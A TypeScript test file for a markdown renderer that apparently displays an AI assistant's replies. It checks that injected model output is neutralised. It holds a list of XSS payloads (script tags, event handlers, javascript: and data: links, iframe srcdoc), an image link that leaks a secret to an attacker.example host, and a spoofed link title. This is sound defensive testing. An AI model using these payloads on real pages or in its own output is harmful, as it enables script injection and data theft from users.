import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { FakeHost, onlyButton, startApp, window } from "./dom-env.ts";
import { event, transcript } from "./fixtures.ts";
import { markdownFragment, onMarkdownClick, renderMarkdown } from "../../../src/webview/markdown.ts";

const w = window as unknown as Record<string, unknown>;

const PAYLOADS = [
  "<script>window.__pwned = 'script'</script>",
  '<img src="x" onerror="window.__pwned = \'img\'">',
  '<div onclick="window.__pwned = \'div\'">click me</div>',
  "[link](javascript:window.__pwned='md-link')",
  '<a href="javascript:window.__pwned=\'a\'" onclick="window.__pwned=\'a-click\'">a</a>',
  "<svg onload=\"window.__pwned='svg'\"><circle r=1 /></svg>",
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  "[data](data:text/html,<script>alert(1)</script>)",
  "![img](x \"t\" onerror=\"window.__pwned='mdimg'\")",
  "<details open ontoggle=\"window.__pwned='toggle'\"><summary>x</summary></details>",
  "<javascript:window.__pwned='autolink'>",
  "text <b onmouseover=\"window.__pwned='b'\">bold</b> and <style>body{display:none}</style>",
];

function container(markdown: string): HTMLElement {
  const el = window.document.createElement("div");
  window.document.body.append(el);
  renderMarkdown(el, markdown, new FakeHost().postMessage.bind(new FakeHost()));
  return el;
}

function clickEverything(root: Element): void {
  for (const el of [root, ...root.querySelectorAll("*")]) {
    for (const type of ["click", "mouseover", "error", "load", "toggle"]) el.dispatchEvent(new window.Event(type));
  }
}

describe("markdown rendering", () => {
  it("the test page would run injected handlers (so the checks below can fail)", () => {
    w.__pwned = undefined;
    const el = window.document.createElement("div");
    el.innerHTML = PAYLOADS[2]!; // deliberately unsanitized
    window.document.body.append(el);
    clickEverything(el);
    assert.equal(w.__pwned, "div");
    el.remove();
  });

  for (const payload of PAYLOADS) {
    it(`never runs model output: ${payload.slice(0, 50)}`, () => {
      w.__pwned = undefined;
      const el = container(`Here you go:\n\n${payload}\n\nand inline ${payload} too`);
      clickEverything(el);
      assert.equal(w.__pwned, undefined, "a planted global was set");
      assert.equal(el.querySelectorAll("script, iframe, svg, img, style, object, embed").length, 0);
      for (const node of el.querySelectorAll("*")) {
        for (const attr of node.getAttributeNames()) assert.ok(!attr.toLowerCase().startsWith("on"), `${node.tagName} keeps ${attr}`);
        const href = node.getAttribute("href");
        if (href) assert.ok(!/^\s*(javascript|data|vbscript):/i.test(href), `href ${href} survived`);
      }
      el.remove();
    });
  }

  it("shows raw HTML in model output as text", () => {
    const el = container('Use <div class="x">here</div> and <script>alert(1)</script>');
    assert.match(el.textContent ?? "", /<div class="x">here<\/div>/);
    assert.match(el.textContent ?? "", /<script>alert\(1\)<\/script>/);
    assert.equal(el.querySelectorAll("div.x").length, 0);
  });

  it("shows the text after a raw <code>, <kbd>, <pre> or <script> tag as text too, a tag half written included", () => {
    // marked passes the text after such a tag through as HTML: `<code> a <b c d` made a bold element and lost
    // 'c d', and a reply streamed up to `<kbd>Ctrl</` showed nothing of its paragraph.
    for (const text of ["<code> a <b c d", "Press <kbd>Ctrl</", "<pre> x </em y", "<script> if (a <b) x &copy"]) {
      const el = container(text);
      assert.equal(el.textContent?.trim(), text, text);
      assert.equal(el.querySelectorAll("b, em, code").length, 0, text);
      el.remove();
    }
  });

  it("renders markdown structure: headings, lists, emphasis, inline code, tables, web links", () => {
    const frag = markdownFragment("# Title\n\n- one\n- **two**\n\n`code` [site](https://example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    assert.equal(frag.querySelector("h1")?.textContent, "Title");
    assert.equal(frag.querySelectorAll("li").length, 2);
    assert.equal(frag.querySelector("strong")?.textContent, "two");
    assert.equal(frag.querySelector("code")?.textContent, "code");
    assert.equal(frag.querySelector("a")?.getAttribute("href"), "https://example.com");
    assert.equal(frag.querySelectorAll("td").length, 2);
  });

  it("highlights code blocks and gives them Copy / Insert at cursor / Apply to file", () => {
    const host = new FakeHost();
    const el = window.document.createElement("div");
    renderMarkdown(el, "Fix:\n\n```ts\nconst x: number = 1;\n```\n", (m) => host.postMessage(m));
    const block = el.querySelector(".code-block")!;
    assert.ok(block, "a code block");
    assert.equal(block.getAttribute("data-language"), "ts");
    assert.ok(block.querySelector("code .hljs-keyword"), "keywords are highlighted");
    assert.equal(block.querySelector("code")?.textContent, "const x: number = 1;");
    const names = [...block.querySelectorAll("button")].map((b) => b.getAttribute("aria-label"));
    assert.deepEqual(names, ["Copy: ts code, const x: number = 1;", "Insert at cursor: ts code, const x: number = 1;", "Apply to file: ts code, const x: number = 1;"]);
    assert.deepEqual([...block.querySelectorAll("button")].map((b) => b.title), ["Copy", "Insert at cursor", "Apply to file"], "the tooltip is the action");
    for (const b of block.querySelectorAll("button")) b.click();
    assert.deepEqual(host.sent("code"), [
      { type: "code", action: "copy", code: "const x: number = 1;", language: "ts" },
      { type: "code", action: "insert", code: "const x: number = 1;", language: "ts" },
      { type: "code", action: "apply", code: "const x: number = 1;", language: "ts" },
    ]);
  });

  it("names each block's buttons and scrolling code by the block, so a screen reader's list of buttons can tell them apart", () => {
    const el = window.document.createElement("div");
    const long = `const ${"x".repeat(60)} = 1;`;
    renderMarkdown(el, `\`\`\`python\n\ndef add(a, b):\n    return a + b\n\`\`\`\n\n\`\`\`\nmake test\n\`\`\`\n\n\`\`\`ts\n${long}\n\`\`\`\n\n\`\`\`\n\`\`\`\n`, () => undefined);
    const copies = [...el.querySelectorAll("button")].map((b) => b.getAttribute("aria-label")).filter((n) => n?.startsWith("Copy"));
    assert.deepEqual(copies, ["Copy: python code, def add(a, b):", "Copy: text code, make test", `Copy: ts code, ${long.slice(0, 39)}…`, "Copy: text code"]);
    assert.equal(new Set(copies).size, copies.length);
    assert.deepEqual([...el.querySelectorAll(".code-block pre")].map((pre) => [pre.getAttribute("role"), pre.getAttribute("aria-label")]), [
      ["region", "Code: python code, def add(a, b):"],
      ["region", "Code: text code, make test"],
      ["region", `Code: ts code, ${long.slice(0, 39)}…`],
      ["region", "Code: text code"],
    ]);
  });

  it("keeps code in an unknown language as plain text, markup included", () => {
    const el = window.document.createElement("div");
    renderMarkdown(el, "```weird\n<b onclick=x>hi</b>\n```", () => undefined);
    assert.equal(el.querySelector("pre code")?.textContent, "<b onclick=x>hi</b>");
    assert.equal(el.querySelectorAll("pre code b").length, 0);
  });

  it("opens workspace links in the editor and leaves web links alone", () => {
    const host = new FakeHost();
    const el = window.document.createElement("div");
    renderMarkdown(el, "[session](src/auth/session.ts#L42) and [web](https://example.com)", (m) => host.postMessage(m));
    el.addEventListener("click", (e) => onMarkdownClick(e, (m) => host.postMessage(m)));
    window.document.body.append(el);
    const [local, web] = [...el.querySelectorAll("a")];
    const localClick = new window.MouseEvent("click", { bubbles: true, cancelable: true });
    local!.dispatchEvent(localClick);
    assert.ok(localClick.defaultPrevented);
    assert.deepEqual(host.sent("openFile"), [{ type: "openFile", path: "src/auth/session.ts", line: 42 }]);
    const webClick = new window.MouseEvent("click", { bubbles: true, cancelable: true });
    web!.dispatchEvent(webClick);
    assert.equal(host.sent("openFile").length, 1);
    el.remove();
  });
});

describe("where a link goes", () => {
  it("a link's hover names where it goes, not a title the model wrote", () => {
    const frag = markdownFragment('[https://github.com/org/repo](https://evil.example/x "https://github.com/org/repo") and [session](src/a.ts#L4) and <https://example.com/a>');
    assert.deepEqual([...frag.querySelectorAll("a")].map((a) => a.getAttribute("title")), ["https://evil.example/x", "src/a.ts#L4", "https://example.com/a"]);
  });
});

describe("images", () => {
  it("an image is a link to it, never loaded: its text shows instead of vanishing, and rendering sends nothing anywhere", () => {
    const frag = markdownFragment("See ![The login flow](docs/login.png) and ![](https://attacker.example/?q=SECRET) and ![x](javascript:alert(1))");
    assert.equal(frag.querySelectorAll("img").length, 0);
    const links = [...frag.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href")]);
    assert.deepEqual(links, [
      ["Image: The login flow", "docs/login.png"],
      ["Image: https://attacker.example/?q=SECRET", "https://attacker.example/?q=SECRET"],
      ["Image: x", null],
    ]);
  });
});

describe("workspace links", () => {
  it("opens a file whose name holds a % that is no escape (100%.md), and decodes the escapes of others", () => {
    const host = new FakeHost();
    const el = container("[notes](docs/100%.md) and [spaced](<docs/my notes.md#L3>)");
    el.addEventListener("click", (e) => onMarkdownClick(e, (m) => host.postMessage(m)));
    for (const a of el.querySelectorAll("a")) a.dispatchEvent(new window.MouseEvent("click", { bubbles: true, cancelable: true }));
    assert.deepEqual(host.sent("openFile"), [
      { type: "openFile", path: "docs/100%.md" },
      { type: "openFile", path: "docs/my notes.md", line: 3 },
    ]);
    el.remove();
  });
});

describe("large code blocks", () => {
  it("shows a code block past the highlighting limit as plain text, saying why, with its buttons", () => {
    const code = "const value = compute(a, b);\n".repeat(2000).trimEnd(); // 58,000 characters
    const host = new FakeHost();
    const el = window.document.createElement("div");
    renderMarkdown(el, `\`\`\`ts\n${code}\n\`\`\``, (m) => host.postMessage(m));
    assert.equal(el.querySelectorAll("code span").length, 0, "not highlighted");
    assert.equal(el.querySelector("pre code")?.textContent, code);
    assert.match(el.querySelector(".code-lang")?.getAttribute("title") ?? "", /too long to highlight/);
    onlyButton(el, "Copy: ts code, const value = compute(a, b);").click();
    assert.equal(host.sent("code")[0]?.code, code);
  });
});

describe("markdown the renderer cannot take", () => {
  // 4,000 characters: marked recurses once per level and runs out of stack around 1,000 of these.
  const NESTED = `${"> - ".repeat(1000)}deep`;

  it("shows markdown nested past the parser's stack as its text instead of throwing", () => {
    const el = container(`Before\n\n${NESTED}`);
    assert.match(el.textContent ?? "", /Before/);
    assert.match(el.textContent ?? "", /> - > - deep$/);
    assert.equal(el.querySelectorAll("blockquote, ul").length, 0);
    el.remove();
  });

  it("a message like that leaves the rest of the conversation on the page, restored or streamed", () => {
    const items = [
      { kind: "assistant", id: "a1", text: NESTED, thinking: "", streaming: false },
      { kind: "user", id: "u2", text: "and then?" },
    ] as const;
    const saved = { version: 1, transcript: transcript([...items]), history: [], draft: { text: "", mentions: [] } };
    const { root, app } = startApp(saved); // a page restored with it in its state
    assert.deepEqual([...root.querySelectorAll<HTMLElement>("[data-item]")].map((e) => e.dataset.id), ["a1", "u2"]);
    app.receive(event({ type: "runStart", runId: "r1" }));
    app.receive(event({ type: "model", event: { type: "text", text: NESTED } }));
    assert.deepEqual([...root.querySelectorAll<HTMLElement>("[data-item]")].map((e) => e.dataset.item), ["assistant", "user", "assistant"]);
    assert.match([...root.querySelectorAll('[data-item="assistant"]')].at(-1)?.textContent ?? "", /> - deep$/);
  });
});
